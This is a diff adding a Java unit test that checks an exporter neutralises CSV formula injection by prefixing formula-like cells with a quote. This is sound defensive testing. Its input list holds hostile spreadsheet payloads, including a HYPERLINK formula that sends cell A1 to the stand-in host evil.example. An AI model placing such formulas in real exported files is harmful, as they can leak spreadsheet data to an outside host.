@@ -88,4 +88,35 @@ class TableWriterTest {
         assertTrue(ExportFormat.parse("xlsx").isEmpty());
         assertTrue(ExportFormat.parse(null).isEmpty());
     }
+
+    /** OWASP CSV injection: text starting with = + - @ TAB CR comes back with a leading quote; numbers stay numbers. */
+    @Test
+    void formulaLikeTextIsNeutralisedWithAQuote_numbersAndOtherTextAreNot() throws Exception {
+        List<String> hostile = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A9)",
+                "\tcmd", "\r=1", "a=b", "'quoted", "");
+        List<Row> rows = new java.util.ArrayList<>();
+        for (String text : hostile) {
+            rows.add(new Row(text, LocalDate.of(2017, 7, 9), text, -3, -0.25, List.of("=x")));
+        }
+        ByteArrayOutputStream out = new ByteArrayOutputStream();
+        TableWriter.write(Row.class, rows, ExportFormat.CSV, out);
+        try (CSVParser parser = CSVParser.parse(new StringReader(out.toString(StandardCharsets.UTF_8)),
+                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
+            List<CSVRecord> records = parser.getRecords();
+            assertEquals(hostile.size(), records.size());
+            List<String> expected = List.of("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+1+2", "'-2+3", "'@SUM(A1:A9)",
+                    "'\tcmd", "'\r=1", "a=b", "'quoted", "");
+            for (int i = 0; i < records.size(); i++) {
+                assertEquals(expected.get(i), records.get(i).get("id"), "id cell " + i);
+                assertEquals(expected.get(i), records.get(i).get("text"), "text cell " + i);
+                assertEquals("-3", records.get(i).get("count"), "a negative number is a number");
+                assertEquals("-0.25", records.get(i).get("share"));
+                assertEquals("[\"=x\"]", records.get(i).get("tags"), "JSON text starts with [ and is left alone");
+            }
+        }
+        // JSON Lines is data for programs, not a spreadsheet: unchanged.
+        ByteArrayOutputStream jsonl = new ByteArrayOutputStream();
+        TableWriter.write(Row.class, rows.subList(0, 1), ExportFormat.JSONL, jsonl);
+        assertEquals(hostile.get(0), new ObjectMapper().readTree(jsonl.toByteArray()).path("text").asText());
+    }
 }
